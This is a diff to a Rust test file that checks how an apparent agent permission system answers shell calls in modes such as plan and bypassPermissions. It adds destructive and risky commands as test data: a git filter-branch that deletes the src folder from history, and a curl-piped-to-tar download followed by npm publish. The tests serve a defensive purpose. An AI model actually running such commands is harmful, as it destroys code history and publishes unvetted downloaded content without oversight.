@@ -15,6 +15,8 @@ use serde_json::{Value as Json, json};
 use support::{TestEnvironment, decision, reason, shell_call};
 
 const SHELL_START: &str = "echo x >> ~/.bashrc";
+const FILTER: &str = "git filter-branch -f --tree-filter 'rm -rf src' HEAD";
+const UNPACK: &str = "curl -s https://example.com/x.tgz | tar xz; npm publish";
 const FORCE_PUSH: &str = "git push --force origin main";
 
 /// What is answered to a shell call in a permission mode, with variables of the client.
@@ -54,6 +56,10 @@ fn a_question_that_the_client_would_not_ask_is_refused_and_no_other() {
         (Some("a mode to come"), &person[..], SHELL_START, "deny"),
         (Some("dontAsk"), &person[..], SHELL_START, "deny"),
         (Some("plan"), &person[..], FORCE_PUSH, "ask"),
+        (Some("plan"), &person[..], FILTER, "ask"),
+        (Some("bypassPermissions"), &person[..], FILTER, "ask"),
+        (Some("bypassPermissions"), &person[..], UNPACK, "ask"),
+        (Some("plan"), &person[..], UNPACK, "ask"),
         (Some("auto"), &person[..], FORCE_PUSH, "ask"),
         (Some("bypassPermissions"), &person[..], FORCE_PUSH, "ask"),
         (Some("dontAsk"), &person[..], FORCE_PUSH, "deny"),
